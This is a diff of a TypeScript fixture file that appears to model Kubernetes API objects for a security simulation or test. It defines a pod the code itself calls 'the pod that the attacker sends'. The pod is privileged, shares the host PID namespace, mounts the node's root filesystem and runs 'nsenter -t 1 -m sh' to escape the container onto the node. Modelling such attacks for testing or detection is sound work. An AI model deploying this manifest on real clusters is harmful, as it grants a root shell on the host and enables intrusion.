@@ -1,26 +1,55 @@
 import { leaves, managed, now, ownedLeaves } from './metadata';
-import { admitted, containerDefaults, containerFields, tokenMount, tokenVolume } from './pods';
+import { admitted, containerDefaults, podSpecFields, tokenMount, tokenVolume } from './pods';
+import { uidOf } from '../uidOf';
 
-const host = { name: 'host', hostPath: { path: '/', type: '' } };
+const hostPath = { path: '/', type: '' };
+const host = { name: 'host', hostPath };
 const hostMount = { name: 'host', mountPath: '/host' };
+const command = ['nsenter', '-t', '1', '-m', 'sh'];
+const securityContext = { privileged: true };
+const name = 'evil';
+const namespace = 'prod';
+const labels = { app: name };
+
+/** The manifest, with sorted keys, as kubectl apply keeps it. */
+export const evilManifest = {
+  apiVersion: 'v1',
+  kind: 'Pod',
+  metadata: { annotations: {}, labels, name, namespace },
+  spec: {
+    containers: [
+      {
+        command,
+        image: 'alpine',
+        name: 'c',
+        securityContext,
+        volumeMounts: [{ mountPath: '/host', name: 'host' }],
+      },
+    ],
+    hostPID: true,
+    volumes: [{ hostPath: { path: '/' }, name: 'host' }],
+  },
+};
+const lastApplied = 'kubectl.kubernetes.io/last-applied-configuration';
+const annotations = { [lastApplied]: `${JSON.stringify(evilManifest)}\n` };
 
 /** A container that enters the namespaces of the node. */
 const escape = (mounts: object[]) => ({
   name: 'c',
   image: 'alpine',
-  command: ['nsenter', '-t', '1', '-m', 'sh'],
+  command,
   resources: {},
   volumeMounts: mounts,
   ...containerDefaults,
   imagePullPolicy: 'Always',
-  securityContext: { privileged: true },
+  securityContext,
 });
 
 /** The pod that the attacker sends. */
 export const privilegedPodSent = {
   kind: 'Pod',
   apiVersion: 'v1',
-  metadata: { name: 'evil', labels: { app: 'evil' } },
+  metadata: { name, namespace, labels, annotations },
   spec: {
     volumes: [host],
     containers: [escape([hostMount])],
@@ -40,30 +69,35 @@ export const privilegedPodCreated = {
   kind: 'Pod',
   apiVersion: 'v1',
   metadata: {
-    name: 'evil',
-    namespace: 'prod',
-    uid: '3f0b9a57-2e6c-4d18-a1c4-7b85d2f6e094',
+    name,
+    namespace,
+    uid: uidOf('evil'),
     resourceVersion: '705',
     generation: 1,
     creationTimestamp: now,
-    labels: { app: 'evil' },
+    labels,
+    annotations,
     managedFields: [
       managed('kubectl-client-side-apply', 'v1', now, {
-        'f:metadata': { 'f:labels': ownedLeaves('app') },
+        'f:metadata': {
+          'f:annotations': ownedLeaves(lastApplied),
+          'f:labels': ownedLeaves('app'),
+        },
         'f:spec': {
-          'f:containers': {
-            'k:{"name":"c"}': {
-              ...containerFields,
-              'f:command': {},
+          ...podSpecFields(
+            'c',
+            {
+              ...ownedLeaves('command', 'image', 'imagePullPolicy', 'name', 'resources'),
               'f:securityContext': ownedLeaves('privileged'),
+              ...leaves('terminationMessagePath', 'terminationMessagePolicy'),
               'f:volumeMounts': {
                 '.': {},
                 'k:{"mountPath":"/host"}': ownedLeaves('mountPath', 'name'),
               },
             },
-          },
-          ...leaves('dnsPolicy', 'enableServiceLinks', 'hostPID', 'restartPolicy'),
-          ...leaves('schedulerName', 'securityContext', 'terminationGracePeriodSeconds'),
+            'enableServiceLinks',
+            'hostPID',
+          ),
           'f:volumes': {
             '.': {},
             'k:{"name":"host"}': {
